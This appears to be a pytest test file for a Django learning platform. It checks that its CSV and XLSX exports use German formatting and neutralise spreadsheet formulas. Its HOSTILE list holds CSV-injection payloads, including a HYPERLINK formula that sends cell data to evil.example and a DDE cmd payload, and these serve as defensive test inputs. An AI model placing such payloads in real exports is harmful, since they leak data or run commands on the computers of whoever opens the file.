"""Exports German offices can open: BOM + semicolon CSV, local dates, decimal commas, typed
XLSX cells, formulas neutralised (OWASP CSV injection) – in every export."""

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook

from courses import services as courses
from courses.models import Enrolment
from lms.roles import MANAGERS
from organisations.models import ManagerScope
from tests.factories import OrganisationFactory, RegionFactory, UserFactory, make_course

pytestmark = pytest.mark.django_db

BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
# 00:30 local on 15.11. (CET, UTC+1) and on 15.07. (CEST, UTC+2): the previous day in UTC.
WINTER = datetime.datetime(2026, 11, 15, 0, 30, tzinfo=BERLIN)
SUMMER = datetime.datetime(2026, 7, 15, 0, 30, tzinfo=BERLIN)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
REPORTS = ["reports:learner_progress", "reports:overdue", "reports:completion"]


def csv_rows(response):
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing: German Excel garbles umlauts"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_sheet(response):
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)).active


@pytest.fixture
def region():
    return RegionFactory(name="Oberhausen")


@pytest.fixture
def organisation(region):
    return OrganisationFactory(name="Jobcenter Oberhausen", region=region)


@pytest.fixture
def manager(organisation, region):
    person = UserFactory(email="chefin@example.org", organisation=organisation)
    person.groups.add(Group.objects.get(name=MANAGERS))
    ManagerScope.objects.create(manager=person).regions.add(region)
    return person


@pytest.fixture
def admin_client(client, organisation):
    client.force_login(
        UserFactory(email="admin@example.org", is_superuser=True, organisation=organisation)
    )
    return client


def completed_at(moment, *, organisation, last_name="Weiß", first_name="Jürgen", due=None):
    """A learner who completed a two-module course at ``moment`` (through the services)."""
    learner = UserFactory(organisation=organisation, last_name=last_name, first_name=first_name)
    course = make_course(modules=2, title=f"Kooperation {Enrolment.objects.count()}")
    enrolment = courses.enrolment_create(user=learner, course=course)
    with time_machine.travel(moment, tick=False):
        courses.enrolment_mark_completed(enrolment=enrolment)
    if due:
        Enrolment.objects.filter(pk=enrolment.pk).update(due_date=due)
    return Enrolment.objects.get(pk=enrolment.pk)


@pytest.mark.parametrize("moment", [WINTER, SUMMER], ids=["CET", "CEST"])
def test_learner_progress_shows_the_local_day_on_page_csv_and_xlsx(
    client, manager, organisation, moment
):
    completed_at(moment, organisation=organisation)
    client.force_login(manager)
    day = moment.strftime("%d.%m.%Y")
    previous = (moment - datetime.timedelta(days=1)).strftime("%d.%m.%Y")
    url = reverse("reports:learner_progress")

    html = client.get(url).content.decode()
    assert day in html and previous not in html

    rows = csv_rows(client.get(url, {"export": "csv"}))
    assert rows[1][8] == day  # "Abgeschlossen am" (validity columns follow)

    sheet = xlsx_sheet(client.get(url, {"export": "xlsx"}))
    cell = sheet.cell(row=2, column=9)
    assert cell.value.date() == moment.date()
    assert cell.number_format == "DD.MM.YYYY"


@pytest.mark.parametrize("moment", [WINTER, SUMMER], ids=["CET", "CEST"])
def test_completed_between_filter_compares_local_days(client, manager, organisation, moment):
    completed_at(moment, organisation=organisation, last_name="Fundstück")
    client.force_login(manager)
    url = reverse("reports:learner_progress")
    day = moment.date()
    previous = day - datetime.timedelta(days=1)

    def found(start, end):
        response = client.get(url, {"completed_from": start, "completed_to": end})
        return "Fundstück" in response.content.decode()

    assert found(day.isoformat(), day.isoformat())
    assert not found(previous.isoformat(), previous.isoformat())


def test_report_csv_is_german_excel_csv_with_decimal_commas_and_dates(
    client, manager, organisation
):
    completed_at(WINTER, organisation=organisation, due=datetime.date(2026, 11, 16))
    client.force_login(manager)
    response = client.get(reverse("reports:learner_progress"), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert rows[0][:2] == ["Nachname", "Vorname"]
    assert rows[1][:2] == ["Weiß", "Jürgen"]
    assert rows[1][6] == "16.11.2026"
    assert "2026-11-16" not in str(rows)


def test_report_xlsx_cells_are_typed_dates_and_numbers(client, manager, organisation):
    completed_at(WINTER, organisation=organisation, due=datetime.date(2026, 11, 16))
    client.force_login(manager)
    sheet = xlsx_sheet(client.get(reverse("reports:learner_progress"), {"export": "xlsx"}))
    progress, due = sheet.cell(row=2, column=6), sheet.cell(row=2, column=7)
    assert progress.value == 100 and progress.data_type == "n"
    assert due.value == datetime.datetime(2026, 11, 16) and due.number_format == "DD.MM.YYYY"


@pytest.mark.parametrize("name", REPORTS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_report_csv_neutralises_formulas_a_person_typed(
    client, manager, organisation, region, name, hostile
):
    # A formula in a learner's name, and (for the per-organisation report) in an
    # organisation's name; every row is overdue so every report lists it.
    evil_org = OrganisationFactory(name=hostile, region=region)
    completed = completed_at(WINTER, organisation=evil_org, last_name=hostile)
    Enrolment.objects.filter(pk=completed.pk).update(
        completed_at=None, due_date=datetime.date(2020, 1, 1)
    )
    client.force_login(manager)
    rows = csv_rows(client.get(reverse(name), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + hostile in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    sheet = xlsx_sheet(client.get(reverse(name), {"export": "xlsx"}))
    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == hostile]
    assert texts and all(cell.data_type == "s" for cell in texts)


def test_report_export_buttons_are_header_buttons(client, manager):
    client.force_login(manager)
    html = client.get(reverse("reports:learner_progress")).content.decode()
    header = html.split("<main", 1)[0] + html.split("<main", 1)[1].split("w-dropdown", 1)[0]
    assert "export=xlsx" in header and "export=csv" in header
    assert "CSV (Excel, Semikolon) herunterladen" in html


@pytest.mark.parametrize("hostile", HOSTILE)
def test_enrolment_admin_export_local_times_and_neutralised_names(
    admin_client, organisation, hostile
):
    completed_at(WINTER, organisation=organisation, first_name=hostile)
    response = admin_client.get(reverse("courses_enrolments:index"), {"export": "csv"})
    rows = csv_rows(response)
    assert rows[1][0].startswith("'")
    assert "15.11.2026 00:30" in rows[1]
    assert not any("+00:00" in cell for cell in rows[1])

    sheet = xlsx_sheet(admin_client.get(reverse("courses_enrolments:index"), {"export": "xlsx"}))
    completed = sheet.cell(row=2, column=6)
    assert completed.value == datetime.datetime(2026, 11, 15, 0, 30)
    assert completed.number_format == "DD.MM.YYYY HH:MM"
    assert sheet.cell(row=2, column=1).data_type == "s"


@time_machine.travel(datetime.datetime(2026, 11, 30, 12, tzinfo=BERLIN), tick=False)
def test_enrolment_listing_shows_due_dates_not_relative_times(admin_client, organisation):
    completed_at(WINTER, organisation=organisation, due=datetime.date(2026, 12, 15))
    html = admin_client.get(reverse("courses_enrolments:index")).content.decode()
    assert "15.12.2026" in html and "15.11.2026 00:30" in html
    assert "Jetzt gerade" not in html


@pytest.mark.parametrize("hostile", HOSTILE)
def test_certificate_export_decimals_dates_and_neutralised_names(
    admin_client, organisation, hostile
):
    from certificates.services import certificate_issue

    enrolment = completed_at(WINTER, organisation=organisation, first_name=hostile)
    with time_machine.travel(WINTER, tick=False):
        certificate_issue(enrolment=enrolment)
    url = reverse("certificates_certificate:index")
    rows = csv_rows(admin_client.get(url, {"export": "csv"}))
    header, row = rows[0], rows[1]
    assert row[header.index("Name der Inhaberin / des Inhabers")].startswith("'")
    assert row[header.index("UE gesamt")] == "4,0"
    assert row[header.index("Abgeschlossen am")] == "15.11.2026"
    assert row[header.index("Ausgestellt am")] == "15.11.2026 00:30"
    assert row[header.index("Status")] == "gültig"

    sheet = xlsx_sheet(admin_client.get(url, {"export": "xlsx"}))
    cells = {sheet.cell(row=1, column=n).value: sheet.cell(row=2, column=n) for n in range(1, 12)}
    assert cells["UE gesamt"].value == Decimal("4.0") or cells["UE gesamt"].value == 4
    assert cells["UE gesamt"].number_format == "0.0"
    assert cells["Abgeschlossen am"].number_format == "DD.MM.YYYY"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_organisation_admin_export_neutralises_names(admin_client, region, hostile):
    OrganisationFactory(name=hostile, region=region)
    rows = csv_rows(admin_client.get(reverse("organisation:index"), {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert "'" + hostile in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    assert rows[0][1] == "Art" and rows[1][3] == "Ja"
